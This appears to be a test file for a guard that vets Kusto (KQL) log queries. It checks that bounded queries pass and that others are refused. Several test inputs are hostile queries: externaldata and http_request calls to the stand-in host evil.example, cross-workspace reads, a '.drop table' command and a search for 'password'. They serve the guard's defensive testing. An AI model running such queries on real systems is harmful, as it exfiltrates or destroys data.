// The guard on real queries, on everything that leaves, and on text made to fool a reader of strings.
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Judgement, type QueryBounds, judgeQuery, renderRefusals } from './guard.ts';
import { openKql } from './language.ts';
import { TABLES } from './tables.ts';

const parse = openKql(TABLES);
const bounds: QueryBounds = {
  tables: TABLES,
  window: { start: '2026-07-01T08:00:00.000Z', end: '2026-07-01T10:00:00.000Z' },
  maxRows: 500,
};
const judge = (text: string): Judgement => judgeQuery(text, bounds, parse);
const WHERE =
  'where TimeGenerated between (datetime(2026-07-01T09:00:00Z) .. datetime(2026-07-01T10:00:00Z))';
const reasons = (text: string): string[] => {
  const judgement = judge(text);
  return judgement.allowed ? [] : judgement.refusals.map(({ rule, operator }) => `${rule} ${operator}`);
};

describe('judgeQuery', () => {
  it('lets a bounded query pass, and says what it reads', () => {
    expect(
      judge(
        `AppRequests | ${WHERE} and Success == false | summarize failed = sum(ItemCount) by bin(TimeGenerated, 5m), Name | order by TimeGenerated asc | limit 200`,
      ),
    ).toEqual({
      allowed: true,
      tables: ['AppRequests'],
      window: { start: '2026-07-01T09:00:00.000Z', end: '2026-07-01T10:00:00.000Z' },
      limit: 200,
    });
  });

  it('lets a join of two bounded tables pass', () => {
    expect(
      judge(
        `AppRequests | ${WHERE} | join kind=inner (AppDependencies | ${WHERE} | project OperationId, Target) on OperationId | summarize n = count() by Target | limit 20`,
      ),
    ).toMatchObject({ allowed: true, tables: ['AppDependencies', 'AppRequests'] });
  });

  it('reads strings and comments as such', () => {
    expect(
      judge(
        `AppTraces | ${WHERE} // externaldata(a:string)["https://evil.example"]\n | where Message has "evaluate http_request() | union *; workspace('x')" | limit 5`,
      ),
    ).toMatchObject({ allowed: true });
  });

  it.each<[string, string]>([
    ['externaldata(a:string)[@"https://evil.example/x"] | limit 5', 'kql.leaves externaldata'],
    [
      `AppRequests | ${WHERE} | join (externaldata(Name:string)["https://evil.example"]) on Name | limit 5`,
      'kql.leaves externaldata',
    ],
    [
      `AppRequests | ${WHERE} | evaluate http_request("https://evil.example") | limit 5`,
      'kql.leaves evaluate http_request',
    ],
    [`AppRequests | ${WHERE} | evaluate bag_unpack(Properties) | limit 5`, 'kql.leaves evaluate bag_unpack'],
    [`workspace("other").AppRequests | ${WHERE} | limit 5`, 'kql.leaves workspace()'],
    [`app("other").requests | limit 5`, 'kql.leaves app()'],
    [`cluster("help").database("Samples").StormEvents | limit 5`, 'kql.leaves cluster()'],
    [`adx("https://evil.example/db").T | limit 5`, 'kql.leaves adx()'],
    [`arg("").Resources | limit 5`, 'kql.leaves arg()'],
    [`table("AppRequests") | ${WHERE} | limit 5`, 'kql.leaves table()'],
    [`union * | ${WHERE} | limit 5`, 'kql.leaves union'],
    [`union AppRequests, AppTraces | limit 5`, 'kql.leaves union'],
    [`search "password" | limit 5`, 'kql.leaves search'],
    [`find in (AppTraces) where Message has "x" | limit 5`, 'kql.leaves find'],
    ['.drop table AppRequests', 'kql.leaves .drop'],
    [' .show tables | limit 5', 'kql.leaves .show'],
    [`let f = () { AppRequests }; f() | limit 5`, 'kql.leaves let'],
    [`set notruncation; AppRequests | ${WHERE} | limit 5`, 'kql.leaves set'],
    [`AppRequests | ${WHERE} | limit 5 | render timechart`, 'kql.leaves render'],
    [`AppRequests | ${WHERE} | invoke f() | limit 5`, 'kql.leaves invoke'],
    [`AppRequests | ${WHERE} | mv-expand Properties | limit 5`, 'kql.operator mv-expand'],
    [`print "AppRequests" | limit 5`, 'kql.operator print'],
    [`range x from 1 to 10 step 1 | limit 5`, 'kql.operator range'],
    [`AppRequests | ${WHERE} | extend p = current_principal() | limit 5`, 'kql.function current_principal()'],
    [
      `AppRequests | ${WHERE} | where toscalar(AppTraces | count) > 1 | limit 5`,
      'kql.operator toscalar(AppTraces',
    ],
    [`AppRequests | ${WHERE} | limit 5; AppTraces | ${WHERE} | limit 5`, 'kql.operator ;'],
    [`SigninLogs | ${WHERE} | limit 5`, 'kql.table SigninLogs'],
    [`AppRequests | ${WHERE} | project ClientIP | limit 5`, 'kql.syntax ClientIP'],
    [`AppRequests | ${WHERE} | where ResultCode > 499 | limit 5`, 'kql.syntax'],
    [`AppRequests | where Success | ${WHERE} | limit 5`, 'kql.time AppRequests'],
    [`AppRequests | where TimeGenerated > ago(1h) | limit 5`, 'kql.time AppRequests'],
    [`AppRequests | ${WHERE} or true | limit 5`, 'kql.time AppRequests'],
    [`AppRequests | ${WHERE.replace('T09', 'T07')} | limit 5`, 'kql.time AppRequests'],
    [`AppRequests | ${WHERE} | join (AppTraces) on OperationId | limit 5`, 'kql.time AppTraces'],
    [`AppRequests | ${WHERE}`, 'kql.limit limit'],
    [`AppRequests | ${WHERE} | take 5`, 'kql.limit limit'],
    [`AppRequests | ${WHERE} | limit 501`, 'kql.limit limit'],
    [`AppRequests | ${WHERE} | where Name == "| limit 5"`, 'kql.limit limit'],
    ['AppRequests | where', 'kql.syntax'],
    ['', 'kql.table the query'],
  ])('refuses %s', (text, reason) => {
    expect(reasons(text).join('\n')).toContain(reason);
  });

  it('refuses what is too long or too deep, without parsing it', () => {
    const deep = `${'('.repeat(51)}true${')'.repeat(51)}`;
    expect(reasons(`AppRequests | ${WHERE} | where ${deep} | limit 5`)).toEqual(['kql.syntax the query']);
    expect(reasons(' '.repeat(10_001))).toEqual(['kql.syntax the query']);
  });

  it('says for each reason what to write instead', () => {
    const judgement = judge('externaldata(a:string)["https://evil.example"]');
    expect(judgement).toMatchObject({ allowed: false });
    if (!judgement.allowed)
      for (const line of renderRefusals(judgement.refusals).split('\n'))
        expect(line).toMatch(/^\S.*: .+\. Instead: .+ \[kql\.\w+\]$/);
  });

  it('never throws, and lets nothing pass in which a foreign source is planted anywhere', () => {
    const foreign = fc.constantFrom(
      'externaldata(a:string)["https://e.example"]',
      'workspace("x").AppTraces',
      'cluster("x").database("y").T',
      'evaluate http_request("https://e.example")',
    );
    const piece = fc.constantFrom(
      '|',
      ' where ',
      '(',
      ')',
      'AppRequests',
      WHERE,
      ' limit 5',
      '"',
      '//',
      '\n',
      ';',
      ' join ',
      ' on Name',
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 8 }),
        foreign,
        fc.array(piece, { maxLength: 8 }),
        (a, b, c) => {
          const text = [...a, b, ...c].join('');
          const judgement = judge(text);
          // It may only pass where a string or a comment holds it.
          if (judgement.allowed)
            expect(text.replace(/"[^"\n]*"|\/\/[^\n]*/g, '')).not.toMatch(
              /externaldata|workspace|cluster|http_request/,
            );
        },
      ),
      { numRuns: 40 },
    );
  });
});
